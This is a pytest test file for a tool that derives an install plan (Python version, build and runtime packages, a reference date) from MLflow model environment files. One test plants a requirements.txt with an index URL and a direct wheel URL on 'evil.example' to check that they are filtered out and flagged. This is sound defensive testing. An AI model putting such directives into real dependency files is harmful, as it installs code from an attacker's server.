"""What is installed for a model, and as of when."""

from __future__ import annotations

from pathlib import Path

import pytest

from mlmodel.model.model import Model
from mlmodel.runtime import install_plan
from mlmodel.sources.directory import ModelDirectory
from tests.overlay import make_model


def of(folder: Path, as_of: str | None = None) -> install_plan.InstallPlan:
    made = install_plan.plan(Model(ModelDirectory(str(folder))), as_of)
    assert made is not None
    return made


def test_python_env_with_what_builds(tmp_path: Path) -> None:
    model = make_model(tmp_path / "model")
    (model / "requirements.txt").write_text("mlflow==2.15.0\nnumpy==1.26.4")  # as MLflow: no line end
    (model / "python_env.yaml").write_text(
        "python: 3.11.7\nbuild_dependencies:\n- pip==24.0\n- setuptools\ndependencies:\n- -r requirements.txt\n"
    )
    made = of(model)
    assert made.python == (3, 11, 7)
    assert (made.build, made.lines) == (("pip==24.0", "setuptools"), ("mlflow==2.15.0", "numpy==1.26.4"))
    assert made.as_of == "2026-11-23T13:25:10Z"
    assert made.source == "python_env.yaml"
    assert made.pinned("pip") == "pip==24.0"
    assert made.pinned("setuptools") == "setuptools"
    assert made.pinned("num") is None


def test_a_requirement_wins_over_what_builds(tmp_path: Path) -> None:
    model = make_model(tmp_path / "model")
    (model / "requirements.txt").write_text("setuptools==70.0.0\n")
    made = of(model)
    assert [line for line in (*made.build, *made.lines) if "setuptools" in line] == ["setuptools==70.0.0"]


def test_conda_without_python_env_as_mlflow_does_it(tmp_path: Path) -> None:
    model = make_model(tmp_path / "model")
    (model / "python_env.yaml").unlink()
    (model / "conda.yaml").write_text(
        "dependencies:\n- python=3.10.13\n- pip<=24.0\n- setuptools=70.0.0\n- libgomp=12\n- pip:\n  - numpy==1.26.4\n"
    )
    made = of(model)
    assert made.python == (3, 10, 13)
    assert (made.build, made.lines) == (("pip<=24.0", "setuptools==70.0.0"), ("numpy==1.26.4",))
    notes = list(install_plan.notes(Model(ModelDirectory(str(model)))))
    assert [(note.rule, note.location.file, note.location.line) for note in notes] == [
        ("MLM476", "conda.yaml", 5)
    ]


def test_only_names_and_versions_are_installed(tmp_path: Path) -> None:
    model = make_model(tmp_path / "model")
    (model / "requirements.txt").write_text(
        "--index-url https://evil.example/simple\nnumpy==1.26.4 --hash=sha256:00\n"
        "pkg @ https://evil.example/p.whl\n./local.whl\n-e .\n"
    )
    assert [line for line in of(model).lines if "==" in line or "evil" in line][-1] == "numpy==1.26.4"
    assert not any("evil" in line or "local" in line for line in of(model).lines)
    notes = list(install_plan.notes(Model(ModelDirectory(str(model)))))
    assert [note.rule for note in notes] == ["MLM476"] * 4


def test_nothing_recorded(tmp_path: Path) -> None:
    model = make_model(tmp_path / "model")
    for name in ("requirements.txt", "conda.yaml", "python_env.yaml"):
        (model / name).unlink()
    assert install_plan.plan(Model(ModelDirectory(str(model)))) is None


@pytest.mark.parametrize(
    ("created", "as_of", "moment"),
    [
        ("'2024-08-15 10:00:00.123456'", None, "2024-08-15T10:00:00Z"),
        ("2024-08-15 10:00:00", None, "2024-08-15T10:00:00Z"),
        ("'2024-08-15 10:00:00+02:00'", None, "2024-08-15T08:00:00Z"),
        ("'yesterday'", None, None),
        ("'2024-08-15 10:00:00'", "today", None),
        ("'2024-08-15 10:00:00'", "2025-01-31", "2025-01-31T23:59:59Z"),
    ],
)
def test_the_moment(tmp_path: Path, created: str, as_of: str | None, moment: str | None) -> None:
    model = make_model(tmp_path / "model")
    text = (model / "MLmodel").read_text()
    head, _, _ = text.partition("utc_time_created")
    (model / "MLmodel").write_text(f"{head}utc_time_created: {created}\n")
    assert of(model, as_of).as_of == moment
